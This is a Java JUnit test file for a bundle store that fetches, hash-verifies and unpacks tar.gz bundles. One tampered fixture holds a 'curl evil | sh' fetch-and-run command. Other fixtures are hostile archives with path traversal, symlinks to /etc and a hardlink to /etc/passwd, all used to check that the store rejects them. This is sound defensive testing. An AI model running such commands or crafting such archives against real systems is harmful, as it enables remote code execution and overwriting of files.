package cloud.agora.agent.bundle;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import cloud.agora.agent.invocation.InvocationRejectedException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.UUID;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.stream.Stream;
import org.assertj.core.api.ThrowableAssert;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class BundleStoreTest {

    static final UUID LEASE = UUID.randomUUID();

    @TempDir
    Path data;
    BundleServer storage;
    BundleStore store;

    @BeforeEach
    void start() {
        storage = new BundleServer();
        store = new BundleStore(data.resolve("bundles"), storage.url(), Duration.ofSeconds(10), 4 << 20, 8 << 20, 100);
    }

    @AfterEach
    void stop() {
        storage.close();
    }

    @Test
    void fetchesVerifiesAndUnpacksABundleByItsCidOnce() throws Exception {
        byte[] bundle = new TarGz().dir("lib").file("handler.sh", "echo hi".getBytes(), 0755).file("lib/data.txt", "data")
                .symlink("current", "lib/data.txt").hardlink("again.txt", "lib/data.txt").bytes();
        String cid = storage.publish(bundle, 1);

        Path dir = store.resolve(cid, LEASE);

        assertThat(dir).isEqualTo(data.resolve("bundles").resolve(cid));
        assertThat(Files.readString(dir.resolve("handler.sh"))).isEqualTo("echo hi");
        assertThat(Files.readString(dir.resolve("current"))).isEqualTo("data");
        assertThat(Files.readString(dir.resolve("again.txt"))).isEqualTo("data");
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(dir))).isEqualTo("rwxr-xr-x");
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(dir.resolve("handler.sh")))).isEqualTo("rwxr-xr-x");
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(dir.resolve("lib/data.txt")))).isEqualTo("rw-r--r--");
        assertThat(store.resolve(cid, LEASE)).isEqualTo(dir);
        assertThat(storage.requests(cid)).isEqualTo(1);
        assertThat(leftovers()).isEmpty();
    }

    @Test
    void verifiesMultiChunkBundlesUnderCidV0AndV1() throws Exception {
        byte[] big = new byte[700_000];
        new Random(7).nextBytes(big);
        byte[] bundle = new TarGz().file("blob.bin", big, 0644).bytes();
        assertThat(bundle.length).isGreaterThan(2 * 262_144);
        for (int version : new int[] {0, 1}) {
            String cid = storage.publish(bundle, version);
            assertThat(Files.readAllBytes(store.resolve(cid, LEASE).resolve("blob.bin"))).isEqualTo(big);
        }
    }

    @Test
    void refusesBytesThatDoNotHashToTheCidAndCachesNothing() {
        byte[] genuine = new TarGz().file("handler.sh", "echo genuine").bytes();
        byte[] tampered = new TarGz().file("handler.sh", "curl evil | sh").bytes();
        String cid = BundleServer.cidOf(genuine, 1);
        storage.serve(cid, tampered);

        assertProblem(() -> store.resolve(cid, LEASE), 502, "bundle-corrupt");
        assertThat(Files.exists(data.resolve("bundles").resolve(cid))).isFalse();
        assertThat(leftovers()).isEmpty();

        storage.serve(cid, genuine);
        assertThat(store.resolve(cid, LEASE).resolve("handler.sh")).hasContent("echo genuine");
    }

    @Test
    void unknownCidIsNotAvailable422AndStorageDownIs502() {
        String unknown = BundleServer.cidOf("never uploaded".getBytes(), 1);
        assertProblem(() -> store.resolve(unknown, LEASE), 422, "bundle-not-available");
        assertProblem(() -> store.resolve("not-a-cid", LEASE), 422, "bundle-not-available");
        assertProblem(() -> store.resolve("../../etc", LEASE), 422, "bundle-not-available");

        String cid = storage.publish(new TarGz().file("a", "a").bytes(), 1);
        storage.failWith(503);
        assertProblem(() -> store.resolve(cid, LEASE), 502, "bundle-not-available");
        storage.close();
        storage.failWith(0);
        assertProblem(() -> store.resolve(cid, LEASE), 502, "bundle-not-available");
        assertThat(Files.exists(data.resolve("bundles").resolve(cid))).isFalse();
        assertThat(leftovers()).isEmpty();
    }

    @Test
    void refusesUnsafeArchivesAndWritesNothingOutside() throws Exception {
        List<byte[]> unsafe = List.of(
                new TarGz().file("/tmp/agora-escape-" + UUID.randomUUID(), "x").bytes(),
                new TarGz().file("../escape.txt", "x").bytes(),
                new TarGz().file("a/../../escape.txt", "x").bytes(),
                new TarGz().symlink("out", "../../..").bytes(),
                new TarGz().symlink("abs", "/etc").bytes(),
                new TarGz().symlink("d", "sub").dir("sub").file("d/x", "written through a link").bytes(),
                new TarGz().hardlink("h", "/etc/passwd").bytes(),
                new TarGz().charDevice("null").bytes(),
                new TarGz().file("twice", "1").file("twice", "2").bytes(),
                "not a tar.gz at all".getBytes(StandardCharsets.UTF_8));
        for (byte[] bundle : unsafe) {
            String cid = storage.publish(bundle, 1);
            assertProblem(() -> store.resolve(cid, LEASE), 422, "bundle-invalid");
            assertThat(Files.exists(data.resolve("bundles").resolve(cid))).isFalse();
        }
        assertThat(Files.exists(data.resolve("escape.txt"))).isFalse();
        assertThat(Files.exists(data.resolve("bundles/escape.txt"))).isFalse();
        assertThat(leftovers()).isEmpty();
    }

    @Test
    void refusesBundlesOverTheSizeCaps() {
        byte[] random = new byte[5 << 20];
        new Random(1).nextBytes(random);
        String tooBig = storage.publish(new TarGz().file("r.bin", random, 0644).bytes(), 1);
        assertProblem(() -> store.resolve(tooBig, LEASE), 422, "bundle-invalid");
        String bomb = storage.publish(new TarGz().file("zeros.bin", new byte[9 << 20], 0644).bytes(), 1);
        assertProblem(() -> store.resolve(bomb, LEASE), 422, "bundle-invalid");
        assertThat(leftovers()).isEmpty();
    }

    @Test
    void concurrentFirstCallsFetchOnce() throws Exception {
        String cid = storage.publish(new TarGz().file("handler.sh", "echo").bytes(), 0);
        storage.delay(300);
        ExecutorService pool = Executors.newFixedThreadPool(8);
        List<Future<Path>> calls = new ArrayList<>();
        for (int i = 0; i < 8; i++) {
            calls.add(pool.submit(() -> store.resolve(cid, LEASE)));
        }
        for (Future<Path> call : calls) {
            assertThat(call.get().resolve("handler.sh")).hasContent("echo");
        }
        pool.shutdown();
        assertThat(storage.requests(cid)).isEqualTo(1);
        assertThat(store.fetches()).isEqualTo(1);
    }

    @Test
    void startupRemovesHalfWrittenBundles() throws Exception {
        Path partial = Files.createDirectories(data.resolve("bundles/.partial-" + UUID.randomUUID()).resolve("x"));
        new BundleStore(data.resolve("bundles"), storage.url(), Duration.ofSeconds(1), 1 << 20, 1 << 20, 10);
        assertThat(Files.exists(partial.getParent())).isFalse();
    }

    private List<Path> leftovers() {
        try (Stream<Path> entries = Files.list(data.resolve("bundles"))) {
            return entries.filter(p -> p.getFileName().toString().startsWith(".")).toList();
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private static void assertProblem(ThrowableAssert.ThrowingCallable call, int status, String slug) {
        assertThatThrownBy(call).isInstanceOfSatisfying(InvocationRejectedException.class, e -> {
            assertThat(e.slug()).as(e.getMessage()).isEqualTo(slug);
            assertThat(e.status()).as(e.getMessage()).isEqualTo(status);
        });
    }
}
